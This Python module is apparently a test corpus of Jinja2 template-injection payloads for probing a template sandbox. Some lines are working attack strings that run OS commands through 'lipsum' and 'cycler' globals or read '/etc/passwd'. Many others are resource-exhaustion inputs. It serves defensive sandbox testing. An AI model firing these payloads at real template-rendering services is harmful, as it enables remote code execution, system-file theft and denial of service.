"""What people type into templates to reach the machine behind them: each line is one attempt."""

OBJECTS = """
{{ ''.__class__ }}
{{ ''.__class__.__mro__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ [].__class__.__base__.__subclasses__() }}
{{ ().__class__.__bases__[0].__subclasses__()[40]('/etc/passwd').read() }}
{{ {}.__class__ }}
{{ 1.__class__ }}
{{ (1).__class__ }}
{{ true.__class__ }}
{{ none.__class__ }}
{{ customer.__class__ }}
{{ customer['__class__'] }}
{{ customer["__class__"]["__init__"]["__globals__"] }}
{{ customer.__init__.__globals__ }}
{{ customer.__dict__ }}
{{ customer.__reduce__() }}
{{ customer.keys.__self__ }}
{{ customer.get.__self__ }}
{{ customer.first_name.__class__ }}
{{ customer.first_name.format }}
{{ customer.first_name['__class__'] }}
{{ cart.lines.__len__ }}
{{ cart.lines.append }}
{{ cart.lines.pop }}
{{ thing.secret }}
{{ thing._secret }}
{{ thing.run }}
{{ thing['secret'] }}
{{ thing['run'] }}
{{ thing }}
{{ (thing) ~ '' }}
{{ [thing] }}
{{ thing | upper }}
{{ thing | default(thing) }}
{{ things[0].secret }}
{{ things | first }}
{{ things }}
{% for t in things %}{{ t.secret }}{{ t }}{{ t.run }}{% endfor %}
{% for k in customer %}{{ k }}{% endfor %}
{% for c in ''.__class__.__mro__ %}{{ c }}{% endfor %}
"""

CALLS = """
{{ thing.run() }}
{{ thing['run']() }}
{{ thing.run.__call__() }}
{{ (thing.run)() }}
{{ things[0].run() }}
{{ customer.items() }}
{{ customer.pop('first_name') }}
{{ customer.update(x=1) }}
{{ customer.setdefault('a', 1) }}
{{ customer.first_name.format(thing) }}
{{ '{0.secret}'.format(thing) }}
{{ '{0.__class__}'.format(thing) }}
{{ '{x.__class__}'.format_map({'x': thing}) }}
{{ '%s' % thing }}
{{ '%(secret)s' % thing }}
{{ cart.lines.append(1) }}
{{ cart.lines.clear() }}
{{ range(999999999) }}
{{ dict(a=1) }}
{{ lipsum() }}
{{ lipsum.__globals__ }}
{{ lipsum.__globals__['os'].popen('id').read() }}
{{ cycler }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ joiner() }}
{{ joiner.__init__.__globals__ }}
{{ namespace() }}
{{ namespace.__init__.__globals__ }}
{{ self }}
{{ self.__init__.__globals__ }}
{{ self._TemplateReference__context }}
{{ self.__class__ }}
{{ super() }}
{{ caller() }}
{{ loop }}
{{ loop.cycle('a', 'b') }}
{% for l in cart.lines %}{{ loop.cycle('a','b') }}{% endfor %}
{% for l in cart.lines %}{{ loop._iterable }}{{ loop.__class__ }}{{ loop }}{% endfor %}
{% for l in cart.lines %}{{ loop.changed(thing) }}{% endfor %}
{% for l in cart.lines %}{{ loop.previtem }}{{ loop.nextitem }}{% endfor %}
{{ config }}
{{ config.items() }}
{{ request }}
{{ request.application.__globals__ }}
{{ get_flashed_messages.__globals__ }}
{{ url_for.__globals__ }}
{{ environment }}
{{ context }}
{{ __builtins__ }}
{{ __import__('os') }}
{{ eval('1') }}
{{ open('/etc/passwd') }}
{{ getattr(thing, 'secret') }}
"""

FILTERS = """
{{ thing | attr('secret') }}
{{ '' | attr('__class__') }}
{{ '' | attr('__cla' ~ 'ss__') }}
{{ customer | attr('items') }}
{{ ['__class__'] | map('attr') }}
{{ [thing] | map(attribute='secret') | list }}
{{ things | map(attribute='secret') | join }}
{{ things | selectattr('secret') | list }}
{{ things | groupby('secret') }}
{{ things | sort(attribute='secret') }}
{{ things | sum(attribute='secret') }}
{{ things | unique(attribute='secret') }}
{{ '%s' | format(thing.secret) }}
{{ '{0.secret}' | format(thing) }}
{{ customer.first_name | safe }}
{{ customer.first_name | forceescape | safe }}
{{ {'onload': 'x'} | xmlattr }}
{{ thing | pprint }}
{{ thing | string }}
{{ thing | tojson }}
{{ thing | list }}
{{ customer | items | list }}
{{ customer | dictsort }}
{{ 'a' | center(999999999) }}
{{ 'a' | indent(999999999) }}
{{ 'a' | wordwrap(1) }}
{{ 'a' | replace('a', 'aaaaaaaaaaaaaaaa') }}
{{ 'x' | urlize }}
{{ 'a' | filesizeformat }}
{{ cart.lines | batch(1) | list }}
{{ cart.lines | slice(9999999) | list }}
{{ 'a' | -shown }}
{{ 'a' | default(value=thing.secret) }}
{{ 'a' | default(*things) }}
{{ 'a' | default(**customer) }}
{{ thing is mapping }}
{{ thing is filter('x') }}
{{ 'eval' is callable }}
"""

STATEMENTS = """
{% set x = thing %}{{ x.secret }}
{% set x %}{{ thing.secret }}{% endset %}{{ x }}
{% with x = thing %}{{ x.secret }}{% endwith %}
{% include '/etc/passwd' %}
{% include customer.first_name %}
{% import 'os' as os %}
{% from 'os' import popen %}
{% extends 'base.html' %}
{% block x %}{{ thing.secret }}{% endblock %}
{% macro m() %}{{ thing.secret }}{% endmacro %}{{ m() }}
{% call thing.run() %}{% endcall %}
{% filter upper %}{{ thing.secret }}{% endfilter %}
{% autoescape false %}{{ customer.first_name }}{% endautoescape %}
{% do thing.run() %}
{% for x in thing.run() %}{% endfor %}
{% for x in range(99999999) %}{% endfor %}
{% for x in 'a' * 99999999 %}{% endfor %}
{% for a in cart.lines %}{% for b in cart.lines %}{% for c in cart.lines %}x{% endfor %}{% endfor %}{% endfor %}
{% for x in [thing] %}{{ x.secret }}{% endfor %}
{% for x in cart.lines recursive %}{{ loop(cart.lines) }}{% endfor %}
{% for x in cart.lines if thing.run() %}{% endfor %}
{% if thing.run() %}{% endif %}
{% if thing.secret == 'canary-7f' %}yes{% endif %}
{% raw %}{{ thing.secret }}{% endraw %}{{ thing.secret }}
{% debug %}
{% trans %}{{ thing.secret }}{% endtrans %}
{% for __class__ in cart.lines %}{{ __class__ }}{% endfor %}
{% for _x in cart.lines %}{{ _x }}{% endfor %}
"""

GROWTH = """
{{ 'a' * 200000000 }}
{{ 200000000 * 'a' }}
{{ 10 ** 2000000 }}
{{ 9 ** 9 ** 9 }}
{{ [1] * 200000000 }}
{{ 7 % 0 }}
{{ 7 / 0 }}
{{ 7 // 0 }}
{{ '%999999999d' % 1 }}
{{ 99999999999999999999 * 99999999999999999999 }}
{{ -customer.first_name }}
{{ +thing }}
{{ cart.lines[::0] }}
{{ cart.lines['a':'b'] }}
{{ cart.lines[thing.run()] }}
{{ customer.first_name + thing }}
{{ thing - thing }}
{{ thing < thing }}
{{ none > 3 }}
{{ 3 in none }}
{{ 1 in thing }}
"""


def payloads() -> list[str]:
    """Every attempt, one a line above, and a few that are too long to write out."""
    lines = "\n".join((OBJECTS, CALLS, FILTERS, STATEMENTS, GROWTH)).splitlines()
    deep = ["{{ " + "(" * 3_000 + "1" + ")" * 3_000 + " }}", "{{ " + "-" * 5_000 + "1 }}", "{{ " + "9" * 10_000 + " }}"]
    wide = ["{{ 1 }}" * 5_000, "a" * 200_000, "{% if 1 %}" * 900 + "{% endif %}" * 900]
    return [line for line in lines if line.strip()] + deep + wide
